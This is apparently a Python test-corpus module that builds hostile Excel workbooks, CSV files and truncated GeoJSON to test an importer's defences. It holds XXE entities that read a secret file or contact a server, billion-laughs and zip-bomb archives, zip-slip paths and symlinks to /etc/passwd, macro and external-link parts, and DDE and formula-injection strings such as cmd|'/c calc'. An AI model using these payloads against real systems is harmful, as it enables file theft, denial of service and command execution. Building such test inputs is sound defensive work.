"""Workbooks that mean harm: packages, entities, parts that fetch or run, sheets that swell."""

import functools
import io
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.corpus.hostile import MEGABYTE, Hostile, end_of_package, hostile
from tests.corpus.packages import (
    TABLE,
    XML,
    letters,
    pack,
    parts,
    patched,
    relation,
    relations,
    rows_of,
    sheet,
    sheet_workbook,
    strings_workbook,
    workbook,
)

SHEET = "xl/worksheets/sheet1.xml"


def hostile_workbooks(*, url: str, secret: str) -> Iterator[Hostile]:
    """All of them. `url` is a server that must hear nothing, `secret` a file that must not be opened."""
    yield from _entities(url, secret)
    yield from _archives(secret)
    yield from _damaged()
    yield from _active(url, secret)
    yield from _sheets()


def _entities(url: str, secret: str) -> Iterator[Hostile]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    types = {
        "file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
        "server": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}/e">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{url}/e.dtd">%e;]>',
        "outer": f'<!DOCTYPE x SYSTEM "{url}/x.dtd">',
        "public": f'<!DOCTYPE x PUBLIC "-//x" "{url}/x.dtd">',
        "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}<!ENTITY e "&l9;">]>',
        "one long entity": f'<!DOCTYPE x [<!ENTITY e "{"a" * 10_000}">]>',
    }
    places = (SHEET, "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml", "docProps/core.xml")
    for what, declaration in types.items():
        for place in places:
            part = str(parts().get(place, f"{XML}<x/>")).replace(XML, XML + declaration).replace("Report", "&e;")
            yield Hostile(f"entities: {what} in {place}", "report.xlsx", functools.partial(workbook, **{place: part}))
        late = sheet(rows_of(TABLE), prolog=f"{XML}<!--{'x' * 100_000}-->{declaration}")
        yield Hostile(f"entities: {what} after a long comment", "a.xlsx", functools.partial(workbook, **{SHEET: late}))
        wide = sheet(rows_of(TABLE), prolog=f'<?xml version="1.0" encoding="UTF-16"?>{declaration}').encode("utf-16")
        yield Hostile(f"entities: {what} in UTF-16", "a.xlsx", functools.partial(workbook, **{SHEET: wide}))


def _archives(secret: str) -> Iterator[Hostile]:
    slips = (
        "../../../tmp/slip",
        "/etc/slip",
        "..\\..\\slip",
        "C:\\slip",
        "xl/../../slip",
        "\\\\server\\slip",
        "a\x01b",
    )
    for name in slips:
        yield Hostile(f"package: slips to {name!r}", "a.xlsx", functools.partial(workbook, **{name: "slipped"}))
    for target in (secret, "/etc/passwd", "../../secret"):
        yield Hostile(f"package: links to {target}", "a.xlsx", functools.partial(_with_link, target))
    good = workbook()
    yield from hostile(
        "package",
        {
            "bomb of spaces": ("a.xlsx", lambda: sheet_workbook(" " * (200 * MEGABYTE))),
            "bomb of zeros beside": ("a.xlsx", lambda: workbook(**{"xl/media/a.bin": bytes(250 * MEGABYTE)})),
            "bomb of 300 MB": (
                "a.xlsx",
                lambda: workbook(**{f"xl/media/{n}.bin": bytes(60 * MEGABYTE) for n in range(5)}),
            ),
            "bomb in a bomb": ("a.zip", lambda: pack({"a.zip": pack({"b.zip": pack({"c": bytes(50 * MEGABYTE)})})})),
            "10,000 parts": ("a.xlsx", lambda: workbook(**{f"xl/media/{n}": "" for n in range(10_000)})),
            "parts that lie over each other": ("a.xlsx", _overlapping),
            "a size that lies": ("a.xlsx", lambda: _lying(100)),
            "a size of nothing": ("a.xlsx", lambda: _lying(0)),
            "a size of 4 GB": ("a.xlsx", lambda: _lying(0xFFFFFFF0)),
            "a checksum that lies": ("a.xlsx", patched(good, field=16, size="<I", value=1, part=SHEET)),
            "an encrypted part": ("a.xlsx", patched(good, field=8, size="<H", value=1, part=SHEET)),
            "strong encryption": ("a.xlsx", patched(good, field=8, size="<H", value=0x41, part=SHEET)),
            "an unknown method": ("a.xlsx", patched(good, field=10, size="<H", value=99, part=SHEET)),
            "a part that begins elsewhere": ("a.xlsx", patched(good, field=42, size="<I", value=7, part=SHEET)),
            "a part that begins behind the end": (
                "a.xlsx",
                patched(good, field=42, size="<I", value=2**31, part=SHEET),
            ),
            "a name behind the end": ("a.xlsx", patched(good, field=28, size="<H", value=0xFFFF, part=SHEET)),
            "a packed size behind the end": ("a.xlsx", patched(good, field=20, size="<I", value=2**31, part=SHEET)),
            "bytes before": ("a.xlsx", b"GIF89a" + good),
            "bytes behind": ("a.xlsx", good + b"<script>" * 9),
            "two packages": ("a.xlsx", good + workbook(**{SHEET: sheet(rows_of([["other"], ["table"]]))})),
            "a part twice": ("a.xlsx", _twice),
            "a part in two spellings": ("a.xlsx", lambda: workbook(**{SHEET.replace("sheet1", "SHEET1"): sheet("")})),
            "packed by bzip2": ("a.xlsx", lambda: pack(parts(), method=zipfile.ZIP_BZIP2)),
            "packed by LZMA": ("a.xlsx", lambda: pack(parts(), method=zipfile.ZIP_LZMA)),
            "a directory of 40 MB": (
                "a.xlsx",
                b"PK\x03\x04" + b"PK\x01\x02".ljust(46, b"\0") * 400_000 + end_of_package(0, 18_400_000, 4),
            ),
        },
    )


def _damaged() -> Iterator[Hostile]:
    good = strings_workbook('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', "<si><t>date</t></si>")
    for tenth in range(1, 20):
        cut = len(good) * tenth // 20
        yield Hostile(f"cut off at {tenth}/20", "a.xlsx", functools.partial(bytes, good[:cut]))
    collection = (
        b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"a": 1}, "geometry": null}]}'
    )
    for cut in range(1, len(collection), 8):
        yield Hostile(f"GeoJSON cut off at {cut}", "a.geojson", functools.partial(bytes, collection[:cut]))


def _active(url: str, secret: str) -> Iterator[Hostile]:
    for part in (
        "xl/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "xl/externalLinks/externalLink1.xml",
        "xl/connections.xml",
        "xl/embeddings/oleObject1.bin",
        "xl/activeX/activeX1.xml",
        "xl/queryTables/queryTable1.xml",
        "customUI/customUI.xml",
        "xl/dialogsheets/sheet1.xml",
        "XL/VBAPROJECT.BIN",
    ):
        yield Hostile(f"active: {part}", "a.xlsx", functools.partial(workbook, **{part: "<x/>"}))
    macro = str(parts()["[Content_Types].xml"]).replace("spreadsheetml.sheet.main", "sheet.macroEnabled.main")
    yield Hostile("active: macros by type", "a.xlsx", functools.partial(workbook, **{"[Content_Types].xml": macro}))
    for kind in ("oleObject", "externalLinkPath", "attachedTemplate", "image", "frame", "worksheet", "sharedStrings"):
        for target in (f"{url}/x", f"file://{secret}"):
            outer = relations(relation("rId9", kind, target, external=True))
            yield Hostile(
                f"active: {kind} from {target[:5]}",
                "a.xlsx",
                functools.partial(workbook, **{"xl/worksheets/_rels/sheet1.xml.rels": outer}),
            )
    for target in (
        secret,
        f"file://{secret}",
        "../../../../../../etc/passwd",
        f"{url}/sheet.xml",
        "\\\\server\\share\\a.xml",
    ):
        outer = relations(relation("rId1", "worksheet", target))
        yield Hostile(
            f"active: sheet at {target[:12]}",
            "a.xlsx",
            functools.partial(workbook, **{"xl/_rels/workbook.xml.rels": outer}),
        )
    formulas = (
        f'WEBSERVICE("{url}")',
        "cmd|'/c calc'!A1",
        f'HYPERLINK("{url}","x")',
        f"'file://{secret}'#$A.A1",
        'DDE("a","b")',
    )
    for formula in formulas:
        text = formula.replace("&", "&amp;").replace('"', "&quot;")
        head = '<row r="1"><c r="A1" t="str"><v>date</v></c></row>'
        row = f'{head}<row r="2"><c r="A2" t="str"><f>{text}</f><v>3</v></c></row>'
        yield Hostile(f"active: formula {formula[:10]}", "a.xlsx", functools.partial(sheet_workbook, row), True)
        yield Hostile(
            f"active: text ={formula[:10]}",
            "a.csv",
            functools.partial(bytes, f"date;place\n1;={formula}\n".encode()),
            True,
        )


def _sheets() -> Iterator[Hostile]:
    def row(cells: str, number: int = 1) -> str:
        return f'<row r="{number}">{cells}</row>'

    made: dict[str, Callable[[], bytes]] = {
        "cell of 200 MB": lambda: sheet_workbook(row(f'<c r="A1" t="str"><v>{"a" * (200 * MEGABYTE)}</v></c>')),
        "cell of 40 kB": lambda: sheet_workbook(row(f'<c r="A1" t="str"><v>{"a" * 40_000}</v></c>')),
        "shared text of 200 MB": lambda: strings_workbook("", f"<si><t>{'a' * (200 * MEGABYTE)}</t></si>"),
        "shared text of 40 kB": lambda: strings_workbook("", f"<si><t>{'a' * 40_000}</t></si>"),
        "long text a hundred thousand times": lambda: strings_workbook(
            "".join(row(f'<c r="A{n}" t="s"><v>0</v></c>', n) for n in range(1, 100_000)),
            f"<si><t>{'a' * 32_000}</t></si>",
        ),
        "text that is not there": lambda: strings_workbook(row('<c r="A1" t="s"><v>7</v></c>'), "<si><t>a</t></si>"),
        "text at minus one": lambda: strings_workbook(row('<c r="A1" t="s"><v>-1</v></c>'), "<si><t>a</t></si>"),
        "text at 10^30": lambda: strings_workbook(row(f'<c r="A1" t="s"><v>{10**30}</v></c>'), "<si><t>a</t></si>"),
        "two far corners": lambda: sheet_workbook(
            row('<c r="A1"><v>1</v></c>') + row('<c r="XFD1048576"><v>1</v></c>', 1_048_576)
        ),
        "tag of 100 MB": lambda: sheet_workbook(f'<row r="1" x="{"a" * (100 * MEGABYTE)}"/>'),
        "million attributes": lambda: sheet_workbook("<row " + " ".join(f'a{n}="1"' for n in range(1_000_000)) + "/>"),
        "million levels": lambda: sheet_workbook("<a>" * 1_500_000),
        "million strange tags": lambda: sheet_workbook("<a/>" * 1_500_000),
        "seven million cells": lambda: sheet_workbook(
            row("<c/>" * 16_000) * 1 + "".join(f"<row>{'<c/>' * 16_000}</row>" for _ in range(450))
        ),
        "no sheets": lambda: workbook(**{SHEET: None}),
        "no workbook part": lambda: workbook(**{"xl/workbook.xml": None}),
        "no relations": lambda: workbook(**{"xl/_rels/workbook.xml.rels": None}),
        "no types": lambda: workbook(**{"[Content_Types].xml": None}),
        "no XML": lambda: workbook(**{SHEET: "date,place"}),
        "half XML": lambda: workbook(**{SHEET: sheet(rows_of(TABLE))[:-30]}),
        "zero bytes": lambda: workbook(**{SHEET: bytes(100)}),
        "latin bytes": lambda: workbook(**{SHEET: sheet(rows_of([["Šid"]])).encode("cp1250")}),
        "an empty sheet": lambda: sheet_workbook(""),
        "two sheets of a name": lambda: workbook(
            **{
                "xl/workbook.xml": str(parts()["xl/workbook.xml"]).replace(
                    "</sheets>", '<sheet name="report" sheetId="2" r:id="rId1"/></sheets>'
                )
            }
        ),
    }
    for what, cells in {
        "rows out of order": row('<c r="A5"><v>1</v></c>', 5) + row('<c r="A2"><v>1</v></c>', 2),
        "a row twice": row('<c r="A2"><v>1</v></c>', 2) * 2,
        "row 0": row('<c r="A0"><v>1</v></c>', 0),
        "row -1": '<row r="-1"><c r="A1"><v>1</v></c></row>',
        "row 4,294,967,296": row('<c r="A4294967296"><v>1</v></c>', 2**32),
        "row of letters": '<row r="x"><c r="A1"><v>1</v></c></row>',
        "cells out of order": row('<c r="B1"><v>1</v></c><c r="A1"><v>1</v></c>'),
        "a cell twice": row('<c r="A1"><v>1</v></c>' * 2),
        "a cell in another row": row('<c r="A9"><v>1</v></c>'),
        "column ZZZ": row('<c r="ZZZ1"><v>1</v></c>'),
        "column of many letters": row(f'<c r="{"A" * 5_000}1"><v>1</v></c>'),
        "small letters": row('<c r="a1"><v>1</v></c>'),
        "no letters": row('<c r="1"><v>1</v></c>'),
        "an empty address": row('<c r=""><v>1</v></c>'),
        "Greek letters": row('<c r="Α1"><v>1</v></c>'),
        "nothing but errors": row('<c r="A1" t="e"><v>#REF!</v></c>'),
        "error as a column name": row('<c r="A1" t="e"><v>#REF!</v></c><c r="B1" t="str"><v>b</v></c>'),
    }.items():
        made[what] = functools.partial(sheet_workbook, cells)
    yield from hostile("sheet", {what: ("a.xlsx", make) for what, make in made.items()})
    strange = {
        "infinity": "1e999",
        "not a number": "NaN",
        "words": "abc",
        "many digits": "9" * 400,
        "a date of old": "-40000",
    }
    for what, value in strange.items():
        cells = row('<c r="A1" t="str"><v>date</v></c>') + row(f'<c r="A2"><v>{value}</v></c>', 2)
        yield Hostile(f"sheet: number of {what}", "a.xlsx", functools.partial(sheet_workbook, cells), True)
    wide = row("".join(f'<c r="{letters(n)}1" t="str"><v>c{n}</v></c>' for n in range(16_000)))
    yield Hostile("sheet: 16,000 columns", "a.xlsx", functools.partial(sheet_workbook, wide))


def _with_link(target: str) -> bytes:
    buffer = io.BytesIO(workbook())
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("xl/media/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, target)
    return buffer.getvalue()


def _lying(size: int) -> bytes:
    """A part that says it holds `size` bytes, with the checksum of so many, and unpacks to 200 MB."""
    bomb = workbook(**{SHEET: bytes(200 * MEGABYTE)})
    lying = patched(bomb, field=24, size="<I", value=size, part=SHEET)
    return patched(lying, field=16, size="<I", value=zlib.crc32(bytes(min(size, 100))), part=SHEET)


def _overlapping() -> bytes:
    """Parts whose directory entries all point to the same packed bytes."""
    content = workbook(**{f"xl/media/{n}.bin": bytes(MEGABYTE) if n == 0 else b"" for n in range(20)})
    first = content.find(b"PK\x03\x04\x14\0\0\0\x08\0", content.find(b"</worksheet>") + 1)
    for n in range(1, 20):
        for field, size, value in ((20, "<I", 990), (24, "<I", MEGABYTE), (42, "<I", max(first, 0))):
            content = patched(content, field=field, size=size, value=value, part=f"xl/media/{n}.bin")
    return content


def _twice() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, part in parts().items():
            archive.writestr(name, part)
        # A list of infos under another name, then renamed in the bytes: zipfile warns of doubled names.
        archive.writestr(SHEET.replace("1", "9"), sheet(rows_of([["other"], ["table"]])))
    return buffer.getvalue().replace(SHEET.replace("1", "9").encode(), SHEET.encode())
